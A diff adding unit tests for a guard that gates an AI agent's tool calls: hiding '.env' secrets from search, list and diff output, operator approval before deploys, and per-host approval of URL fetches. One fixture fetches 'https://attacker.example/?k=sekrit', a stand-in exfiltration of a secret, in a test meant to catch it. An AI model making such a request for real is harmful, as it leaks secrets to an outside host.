@@ -55,7 +55,46 @@ class GuardTest {
                    "dry_run": {"type": "boolean"}}}}""")),
                 call -> call.arguments().path("dry_run").asBoolean() ? ToolResult.ok("-old\n+new", null)
                         : ToolResult.ok("edited", null));
-        return new Catalog(List.of(run, read, edit));
+        Tool fetch = new Tool(ToolSpecs.parse((ObjectNode) JSON.readTree("""
+                {"name": "fetch_url", "title": "Fetch", "description": "Fetches.",
+                 "annotations": {"readOnlyHint": true, "openWorldHint": true},
+                 "inputSchema": {"type": "object", "properties": {"url": {"type": "string"}}}}""")),
+                call -> ToolResult.ok("page", null));
+        Tool action = new Tool(ToolSpecs.parse((ObjectNode) JSON.readTree("""
+                {"name": "action__deploy", "title": "Deploy", "description": "Deploys.",
+                 "inputSchema": {"type": "object", "properties": {"dry_run": {"type": "boolean"}}}}""")),
+                call -> {
+                    runs.incrementAndGet();
+                    return ToolResult.ok("deployed", null);
+                });
+        Tool search = new Tool(ToolSpecs.parse((ObjectNode) JSON.readTree("""
+                {"name": "search_files", "title": "Search", "description": "Searches.",
+                 "annotations": {"readOnlyHint": true},
+                 "inputSchema": {"type": "object", "properties": {"pattern": {"type": "string"}}}}""")),
+                call -> ToolResult.ok("a.txt:1:KEY=public\n.env:1:KEY=sekrit\nsub/.env:3:KEY=sekrit2",
+                        (ObjectNode) JSON.readTree("""
+                        {"truncated": false, "matches": [{"path": "a.txt", "line": 1, "text": "KEY=public"},
+                         {"path": ".env", "line": 1, "text": "KEY=sekrit"},
+                         {"path": "sub/.env", "line": 3, "text": "KEY=sekrit2"}]}""")));
+        Tool list = new Tool(ToolSpecs.parse((ObjectNode) JSON.readTree("""
+                {"name": "list_directory", "title": "List", "description": "Lists.",
+                 "annotations": {"readOnlyHint": true},
+                 "inputSchema": {"type": "object", "properties": {"path": {"type": "string"}}}}""")),
+                call -> ToolResult.ok("./\n.env  (3 B)\na.txt  (5 B)", (ObjectNode) JSON.readTree("""
+                        {"path": ".", "truncated": false, "entries": [{"path": ".env", "type": "file", "size": 3},
+                         {"path": "a.txt", "type": "file", "size": 5}]}""")));
+        Tool diff = new Tool(ToolSpecs.parse((ObjectNode) JSON.readTree("""
+                {"name": "diff", "title": "Diff", "description": "Diffs.",
+                 "annotations": {"readOnlyHint": true},
+                 "inputSchema": {"type": "object", "properties": {}}}""")), call -> {
+                    String text = "diff --git a/a.txt b/a.txt\n--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-x\n+y\n"
+                            + "diff --git a/.env b/.env\nnew file mode 100644\n--- /dev/null\n+++ b/.env\n@@ -0,0 +1 @@\n"
+                            + "+KEY=sekrit\n"
+                            + "diff --git a/old b/conf/.env\nsimilarity index 90%\nrename from old\nrename to conf/.env\n"
+                            + "+KEY=sekrit2\n";
+                    return ToolResult.ok(text, JSON.createObjectNode().put("diff", text).put("truncated", false));
+                });
+        return new Catalog(List.of(run, read, edit, fetch, action, search, list, diff));
     }
 
     private Guard guard(String mode, Rules rules, Approvals approvals, AuditLog audit) {
@@ -187,6 +226,78 @@ class GuardTest {
     }
 
     @Test
+    void deniedPathsAreDroppedFromWhatSearchAndListReturn() throws Exception {
+        Rules rules = rules("deny:\n  paths: [\"**/.env\", \".env\"]\n", dir);
+        Guard g = guard("auto", rules, new Approvals(Duration.ofSeconds(1)), null);
+        ToolResult found = g.call(call("search_files", "{\"pattern\": \"KEY\"}", "c"));
+        assertThat(found.text()).contains("a.txt:1:KEY=public").doesNotContain("sekrit").contains("2 path(s) hidden");
+        assertThat(found.structured().toString()).doesNotContain("sekrit");
+        ToolResult listed = g.call(call("list_directory", "{}", "c"));
+        assertThat(listed.text()).contains("a.txt").doesNotContain(".env  (3 B)");
+        assertThat(listed.structured().path("entries")).hasSize(1);
+        ToolResult diffed = g.call(call("diff", "{}", "c"));
+        assertThat(diffed.text()).contains("+y").doesNotContain("sekrit").contains("2 file(s) hidden");
+        assertThat(diffed.structured().path("diff").asString()).contains("a/a.txt").doesNotContain("sekrit");
+    }
+
+    @Test
+    void aToolWithDryRunIsNeverCalledBeforeTheOperatorAnswersUnlessItIsKnownToBeSafe() throws Exception {
+        Approvals approvals = new Approvals(Duration.ofSeconds(10));
+        Guard g = guard("ask", Rules.NONE, approvals, null);
+        CompletableFuture<ToolResult> pending = async(g, call("action__deploy", "{}", "c"));
+        PendingCall shown = awaitPending(approvals);
+        assertThat(runs).as("no 'preview' run of a third-party tool").hasValue(0);
+        assertThat(shown.preview()).doesNotContain("--- preview ---");
+        approvals.decide(shown.id(), new Decision(Decision.Verdict.DENY, "web", ""));
+        assertThat(pending.get(5, TimeUnit.SECONDS).isError()).isTrue();
+        assertThat(runs).hasValue(0);
+    }
+
+    @Test
+    void theOperatorSeesTheWholeCallHoweverLong() throws Exception {
+        Approvals approvals = new Approvals(Duration.ofSeconds(10));
+        Guard g = guard("ask", Rules.NONE, approvals, null);
+        String longCommand = "echo " + "x".repeat(20_000) + " END-OF-CALL";
+        CompletableFuture<ToolResult> pending = async(g, call("run_command", "{\"command\": \"" + longCommand + "\"}",
+                "c"));
+        PendingCall shown = awaitPending(approvals);
+        assertThat(shown.preview()).contains(longCommand);
+        approvals.decide(shown.id(), new Decision(Decision.Verdict.DENY, "web", ""));
+        pending.get(5, TimeUnit.SECONDS);
+    }
+
+    @Test
+    void networkToolsAreAskedOncePerHostAndConversationUnderAsk() throws Exception {
+        Approvals approvals = new Approvals(Duration.ofMillis(300));
+        Guard g = guard("ask", Rules.NONE, approvals, null);
+        CompletableFuture<ToolResult> first = async(g, call("fetch_url", "{\"url\": \"https://Example.com/a\"}", "c1"));
+        PendingCall shown = awaitPending(approvals);
+        assertThat(shown.preview()).contains("https://Example.com/a");
+        approvals.decide(shown.id(), new Decision(Decision.Verdict.APPROVE, "web", ""));
+        assertThat(first.get(5, TimeUnit.SECONDS).text()).isEqualTo("page");
+        assertThat(g.call(call("fetch_url", "{\"url\": \"https://example.com/b?leak=1\"}", "c1")).text())
+                .as("the same host again in the same conversation").isEqualTo("page");
+        assertThat(g.call(call("fetch_url", "{\"url\": \"https://attacker.example/?k=sekrit\"}", "c1")).text())
+                .as("another host asks (and times out here)").contains("timeout");
+        assertThat(g.call(call("fetch_url", "{\"url\": \"https://example.com/b\"}", "c2")).text())
+                .as("another conversation asks").contains("timeout");
+        assertThat(guard("auto", Rules.NONE, approvals, null).call(call("fetch_url",
+                "{\"url\": \"https://attacker.example/\"}", "c1")).text()).as("auto asks nothing").isEqualTo("page");
+    }
+
+    @Test
+    void alwaysNeverSpansDoors() throws Exception {
+        Approvals approvals = new Approvals(Duration.ofMillis(300));
+        Guard g = guard("ask", Rules.NONE, approvals, null);
+        CompletableFuture<ToolResult> first = async(g, call("run_command", "{\"command\": \"a\"}", "default"));
+        approvals.decide(awaitPending(approvals).id(), new Decision(Decision.Verdict.ALWAYS, "terminal", ""));
+        assertThat(first.get(5, TimeUnit.SECONDS).isError()).isFalse();
+        ToolResult otherDoor = g.call(new ToolCall("run_command", (ObjectNode) JSON.readTree("{\"command\": \"b\"}"),
+                CallContext.of("rest", "default")));
+        assertThat(otherDoor.text()).as("same session name, another door").contains("timeout");
+    }
+
+    @Test
     void aMalformedRulesFileIsAClearError() throws Exception {
         assertThatThrownBy(() -> rules("allow:\n  comands: [x]\n", dir)).hasMessageContaining("rules.yaml")
                 .hasMessageContaining("comands");
@@ -217,6 +328,21 @@ class GuardTest {
             assertThat(l.path("session").asString()).isEqualTo("conv");
             assertThat(l.has("duration_ms")).isTrue();
         });
+    }
+
+    @Test
+    void theAuditLogIsTheOwnersOnly() throws Exception {
+        Path old = dir.resolve("old/audit.jsonl");
+        Files.createDirectories(old.getParent());
+        Files.writeString(old, "{}\n");
+        Files.setPosixFilePermissions(old, java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
+        new AuditLog(old, 1 << 20);
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(old)))
+                .isEqualTo("rw-------");
+        AuditLog fresh = new AuditLog(dir.resolve("new/audit.jsonl"), 1 << 20);
+        guard("auto", Rules.NONE, new Approvals(Duration.ofSeconds(1)), fresh).call(call("read_file", "{}", "c"));
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(fresh.file())))
+                .isEqualTo("rw-------");
     }
 
     @Test
